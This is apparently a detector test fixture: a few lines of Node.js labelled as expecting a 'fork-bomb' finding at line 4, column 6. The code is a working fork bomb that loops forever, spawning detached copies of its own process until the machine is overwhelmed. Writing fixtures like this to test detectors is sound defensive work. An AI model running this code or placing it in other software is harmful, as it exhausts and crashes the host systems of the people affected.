// expect: fork-bomb 4:6
for (;;) {
  require('child_process')
    .spawn(process.argv[0], process.argv.slice(1), { detached: true, stdio: 'ignore' })
    .unref();
}
